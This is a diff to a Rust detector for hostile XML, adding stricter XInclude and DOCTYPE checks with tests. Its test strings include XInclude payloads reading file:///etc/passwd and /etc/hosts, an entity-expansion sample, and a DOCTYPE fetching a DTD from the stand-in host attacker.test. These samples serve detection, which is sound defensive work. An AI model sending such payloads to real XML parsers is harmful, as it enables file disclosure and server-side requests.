@@ -78,7 +78,15 @@ fn xinclude(v: &[u8], name: usize, meter: &mut Meter) -> bool {
     if v.get(e) != Some(&b':') || !at(v, e + 1, b"include") {
         return false;
     }
+    // `<xi:include ` or `/>`, not `<jsp:includeX`; its attributes up to the tag's end.
+    if !v
+        .get(e + 8)
+        .is_some_and(|c| c.is_ascii_whitespace() || *c == b'/')
+    {
+        return false;
+    }
     let rest = &v[(e + 8).min(v.len())..(e + 8 + 256).min(v.len())];
+    let rest = &rest[..rest.iter().position(|c| *c == b'>').unwrap_or(rest.len())];
     meter.add(rest.len() * 2);
     find(rest, b"href").is_some() || find(rest, b"parse").is_some()
 }
@@ -111,16 +119,40 @@ fn doctype_loads(d: &[u8]) -> bool {
                     .is_some_and(|c| c.is_ascii_whitespace() || *c == b'"' || *c == b'\'')
         })
     };
-    if keyword(b"system").is_some() {
-        return true;
+    if let Some(k) = keyword(b"system") {
+        // HTML5's own doctype from XSLT: `<!DOCTYPE html SYSTEM "about:legacy-compat">`.
+        let literal = super::lex::skip_spaces(d, k + 6);
+        return !at(d, literal + 1, b"about:legacy-compat");
     }
     match keyword(b"public") {
-        Some(k) => {
-            let literal = super::lex::skip_spaces(d, k + 6);
-            !at(d, literal + 1, b"-//w3c//dtd ")
-        }
+        // The public identifier of a vendor's DTD is exempt only with its system literal on
+        // the vendor's own site: the literal is what a parser fetches.
+        Some(k) => !known_public_dtd(&d[k + 6..]),
         None => false,
     }
+}
+
+/// `"-//W3C//DTD ..." "http://www.w3.org/..."` and Apple's property lists
+/// (`"-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"`), or the
+/// public identifier alone.
+fn known_public_dtd(d: &[u8]) -> bool {
+    let mut literals = d.split(|c| *c == b'"' || *c == b'\'').skip(1).step_by(2);
+    let (Some(public), system) = (literals.next(), literals.next()) else {
+        return false;
+    };
+    let vendor: &[u8] = if at(public, 0, b"-//w3c//dtd ") {
+        b"www.w3.org/"
+    } else if at(public, 0, b"-//apple//dtd plist") {
+        b"www.apple.com/"
+    } else {
+        return false;
+    };
+    system.is_none_or(|sys| {
+        let sys = sys
+            .strip_prefix(b"https://")
+            .or_else(|| sys.strip_prefix(b"http://"));
+        sys.is_some_and(|rest| at(rest, 0, vendor))
+    })
 }
 
 #[cfg(test)]
@@ -143,6 +175,7 @@ mod tests {
             "<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">",
             "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
             "<x:include href=\"file:///etc/hosts\"/>",
+            "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://attacker.test/x.dtd\"><r/>",
         ] {
             assert!(hit(s), "{s}");
         }
@@ -156,6 +189,9 @@ mod tests {
             "<?xml version=\"1.0\"?><order><id>12</id><note>50% off; the system works</note></order>",
             "the DOCTYPE says SYSTEM",
             "<include href=\"a\"/>",
+            "<jsp:include page=\"a.jsp\"/><a href=\"/x\">",
+            "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
+            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
         ] {
             assert!(!hit(s), "{s}");
         }
